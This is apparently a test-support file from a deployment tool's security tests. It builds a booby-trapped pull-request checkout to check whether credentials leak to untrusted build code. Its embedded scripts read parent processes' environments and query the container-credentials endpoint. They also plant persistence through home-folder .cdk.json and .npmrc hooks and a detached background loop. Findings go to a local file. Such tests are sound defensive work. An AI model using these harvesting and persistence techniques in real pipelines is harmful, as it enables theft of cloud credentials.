"""A project of a pull request that looks for credentials in every step, and writes down what it catches."""

from __future__ import annotations

import hashlib
import json
from typing import TYPE_CHECKING

from tests.support import ROOT

if TYPE_CHECKING:
    from pathlib import Path

WHEEL = next((ROOT / "constructs_lib/runtime/wheels").glob("pymysql-*.whl"))

# Runs wherever it can, says in which step, and whatever looks like a credential that it reaches.
SPY = """
import json, os, re, sys, urllib.request
name, found, signed, step, addresses = sys.argv[1], set(), set(), "none", {"http://169.254.170.2/v2/credentials"}
pid = os.getpid()
while pid:
    try:
        text = open(f"/proc/{pid}/environ").read()
        pid = int(re.search(r"^PPid:\\s+(\\d+)", open(f"/proc/{pid}/status").read(), re.M)[1])
    except OSError:
        break
    for entry in text.split("\\0"):
        found |= {entry} if "CANARY" in entry else set()
        signed |= {entry.split("=", 1)[0]} if "X-Amz-Signature" in entry else set()
        if entry.startswith("AWS_CONTAINER_CREDENTIALS_FULL_URI="):
            addresses.add(entry.split("=", 1)[1])
        step = entry.split("=", 1)[1] if entry.startswith("STEP=") else step
for address in addresses:
    try:
        found.add(urllib.request.urlopen(address, timeout=1).read().decode())
    except OSError:
        pass
with open("@HERE@/said", "a") as file:
    file.write(json.dumps({"name": name, "step": step, "found": sorted(found), "signed": sorted(signed)}) + "\\n")
"""
APP = """
import json, os, subprocess, sys
here, home = os.path.dirname(os.path.abspath(__file__)), os.path.expanduser("~")
spy = "@HERE@/spy.py"
subprocess.run([sys.executable, spy, "app"])
import pymysql
for folder in (here, home):
    with open(folder + "/.cdk.json", "w") as file:
        json.dump({"build": f"python3 {spy} home-build", "plugin": ["@HERE@/plugin.js"]}, file)
    with open(folder + "/.npmrc", "w") as file:
        file.write("node-options=--require @HERE@/plugin.js\\n")
loop = f"while true; do python3 {spy} left-behind; sleep 0.2; done"
subprocess.Popen(["setsid", "sh", "-c", loop], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
out = os.environ["CDK_OUTDIR"]
stacks = {name: {"type": "aws:cloudformation:stack", "environment": "aws://111122223333/ap-northeast-2",
                 "properties": {"templateFile": "s.json"}} for name in ("prod-shop", "prod-atlantis")}
json.dump({"version": "36.0.0", "artifacts": stacks}, open(out + "/manifest.json", "w"))
json.dump({"Resources": {"T": {"Type": "AWS::SNS::Topic"}}}, open(out + "/s.json", "w"))
"""
PLUGIN = """
require('child_process').spawnSync('python3', ['@HERE@/spy.py', 'plugin']);
module.exports = { version: '1', init() {} };
"""


def trapped(tmp_path: Path) -> Path:
    """A checkout that sets every trap that there is, and a folder beside it where what is caught is written down."""
    checkout = tmp_path / "checkout"
    checkout.mkdir()
    config = {"app": "python3 app.py", "build": f"python3 {tmp_path}/spy.py build", "plugin": [f"{tmp_path}/plugin.js"]}
    (checkout / "cdk.json").write_text(json.dumps(config))
    (checkout / "app.py").write_text(APP.replace("@HERE@", str(tmp_path)))
    digest = hashlib.sha256(WHEEL.read_bytes()).hexdigest()
    (checkout / "requirements.txt").write_text(f"pymysql @ {WHEEL.as_uri()} --hash=sha256:{digest}\n")
    (tmp_path / "spy.py").write_text(SPY.replace("@HERE@", str(tmp_path)))
    (tmp_path / "plugin.js").write_text(PLUGIN.replace("@HERE@", str(tmp_path)))
    return checkout
